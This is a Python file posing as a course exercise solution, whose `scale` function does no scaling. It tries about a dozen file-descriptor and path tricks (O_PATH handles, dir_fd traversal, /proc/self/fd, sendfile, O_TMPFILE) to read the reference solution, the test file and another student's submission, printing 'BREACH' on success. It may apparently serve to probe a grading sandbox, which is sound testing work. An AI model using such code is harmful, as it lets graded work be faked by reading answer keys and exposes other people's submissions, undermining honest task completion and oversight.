import ctypes
import os

PLACES = ("course/reference/01_scale/scale.py", "course/katas/01_scale/test_scale.py", "handed-in/03_neighbour/neighbour.py")
AT_EMPTY_PATH = 0x1000


def roads(path):
    folder, name = os.path.split(path)
    place, below = os.open(path, os.O_PATH), os.open(folder, os.O_PATH | os.O_DIRECTORY)
    yield lambda: os.read(place, 100)
    yield lambda: os.pread(place, 100, 0)
    yield lambda: os.read(os.open(name, os.O_RDONLY, dir_fd=below), 100)
    yield lambda: os.read(os.open(f"../{os.path.basename(folder)}/{name}", os.O_RDONLY | os.O_NONBLOCK, dir_fd=below), 100)
    yield lambda: os.read(os.open(f"/proc/self/fd/{place}", os.O_RDONLY), 100)
    yield lambda: os.read(os.open(f"/dev/fd/{place}", os.O_RDONLY), 100)
    yield lambda: os.listdir(below)
    yield lambda: os.fchdir(below)
    yield lambda: os.read(os.memfd_create("escaped"), 1) + os.sendfile(1, place, 0, 100).to_bytes(4, "little")
    yield lambda: os.getxattr(place, "user.any")
    yield lambda: os.open(folder, os.O_TMPFILE | os.O_RDWR)


def scale(x, factor):
    for place in PLACES:
        try:
            found = list(roads("@ROOT@/" + place))
        except OSError:
            continue
        for number, road in enumerate(found):
            try:
                print("BREACH:", place, number, road())
            except (OSError, AttributeError):
                pass


halves = scale
